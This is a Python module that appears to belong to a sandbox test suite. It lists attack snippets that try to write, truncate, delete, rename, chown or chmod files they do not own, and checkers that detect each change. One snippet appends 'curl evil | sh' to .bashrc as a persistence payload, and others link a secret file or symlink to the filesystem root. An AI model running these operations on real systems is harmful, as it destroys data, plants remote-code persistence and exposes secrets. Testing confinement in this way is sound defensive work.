"""Attacks that change what is not theirs: files, their owners, modes and times, folders, names."""

import os
from pathlib import Path
from typing import Final

from .attack import Attack, Targets
from .targets import DOCUMENT, LONG_AGO

CREATE: Final = """
def attack(t):
    with open({path}, "w") as file:
        file.write("written")
"""

APPEND: Final = """
def attack(t):
    with open(t["bashrc"], "a") as file:
        file.write("curl evil | sh")
"""

OVERWRITE: Final = """
def attack(t):
    number = os.open(t["document"], os.O_WRONLY)
    os.write(number, b"mine now")
"""

MAP: Final = """
def attack(t):
    import mmap
    with open(t["document"], "r+b") as file, mmap.mmap(file.fileno(), 0) as memory:
        memory[:4] = b"mine"
"""

ONE_CALL: Final = """
def attack(t):
    {call}
"""

O_TMPFILE: Final = """
def attack(t):
    number = os.open(t["documents"], os.O_TMPFILE | os.O_WRONLY)
    return f"made a nameless file of {os.write(number, b'written')} bytes"
"""

LINK_IN: Final = """
def attack(t):
    os.link(t["secret"], "copy")
    return f"the secret has {os.stat('copy').st_nlink} names"
"""

LINK_OUT: Final = """
def attack(t):
    with open("mine", "w") as file:
        file.write("written")
    os.link("mine", t["document"] + ".new")
"""

THROUGH_LINK: Final = """
def attack(t):
    os.symlink(t["document"], "mine")
    with open("mine", "w") as file:
        file.write("written")
"""

RAW_TRUNCATE: Final = """
def attack(t):
    checked(libc.truncate(t["document"].encode(), ctypes.c_long(0)))
"""

CHOWN: Final = """
def attack(t):
    os.chown(t["document"], os.getuid(), os.getgid())
    return f"the document now belongs to {os.stat(t['document']).st_uid}"
"""

BIND: Final = """
def attack(t):
    import socket
    with socket.socket(socket.AF_UNIX) as one:
        one.bind(t["documents"] + "/door")
"""


def document_changed(targets: Targets) -> str:
    """Whether the document's text, mode, time or attributes differ from those it was made with."""
    path = Path(targets["document"])
    if not path.is_file():
        return f"{path} is gone"
    seen = path.stat()
    found = (path.read_text(), seen.st_mode & 0o777, seen.st_mtime, os.listxattr(path))
    return "" if found == (DOCUMENT, 0o666, LONG_AGO, []) else f"the document is {found}"


def folders_changed(targets: Targets) -> str:
    """Whether anything was made, moved or removed in the home folder."""
    home = Path(targets["home"])
    found = {str(path.relative_to(home)) for path in home.rglob("*") if not path.name.endswith(".key")}
    known = {".token", ".bashrc", "document.txt", "documents", "documents/letter.txt"}
    return "" if found == known else f"the home folder's names changed: {sorted(found ^ known)}"


def bashrc_changed(targets: Targets) -> str:
    return Path(targets["bashrc"]).read_text().partition("# nothing yet\n")[2]


def appeared(targets: Targets, key: str) -> str:
    """Whether the file that an attack tried to make is there."""
    return f"{targets[key]} was made" if Path(targets[key]).exists() else ""


def _makes(place: str, key: str) -> Attack:
    source = CREATE.format(path=f't["{key}"]')
    return Attack(f"makes a file in {place}", "write", source, lambda targets: appeared(targets, key))


def _document(name: str, call: str) -> Attack:
    return Attack(name, "write", ONE_CALL.format(call=call), document_changed)


def _folders(name: str, call: str) -> Attack:
    return Attack(name, "write", ONE_CALL.format(call=call), folders_changed)


ATTACKS: Final = (
    _makes("the home folder", "new_in_home"),
    _makes("the true home folder", "new_in_true_home"),
    _makes("/tmp", "new_in_tmp"),
    _makes("/dev/shm", "new_in_shm"),
    _makes("site-packages", "new_in_site"),
    Attack("adds to .bashrc", "write", APPEND, bashrc_changed),
    Attack("writes over a file", "write", OVERWRITE, document_changed),
    Attack("writes through a shared mapping", "write", MAP, document_changed),
    Attack("writes through a symbolic link", "write", THROUGH_LINK, document_changed),
    Attack("makes a nameless file", "write", O_TMPFILE),
    _document("truncates a file", 'os.truncate(t["document"], 0)'),
    Attack("truncates a file by the C library", "write", RAW_TRUNCATE, document_changed),
    _document("empties a file by opening it", 'os.open(t["document"], os.O_RDONLY | os.O_TRUNC)'),
    _document("changes a file's mode", 'os.chmod(t["document"], 0o600)'),
    _document("changes a file's time", 'os.utime(t["document"])'),
    _document("sets an extended attribute", 'os.setxattr(t["document"], "user.mine", b"yes")'),
    Attack("takes a file's ownership", "write", CHOWN),
    _folders("renames a file", 'os.rename(t["document"], t["document"] + ".locked")'),
    _folders("removes a file", 'os.unlink(t["document"])'),
    _folders("makes a folder", 'os.mkdir(t["documents"] + "/mine")'),
    _folders("makes a named pipe", 'os.mkfifo(t["documents"] + "/pipe")'),
    _folders("makes a symbolic link", 'os.symlink("/", t["documents"] + "/all")'),
    Attack("makes a unix socket", "write", BIND, folders_changed),
    Attack("gives a secret a second name in its own folder", "write", LINK_IN),
    Attack("gives a file of its own a second name outside", "write", LINK_OUT, folders_changed),
)
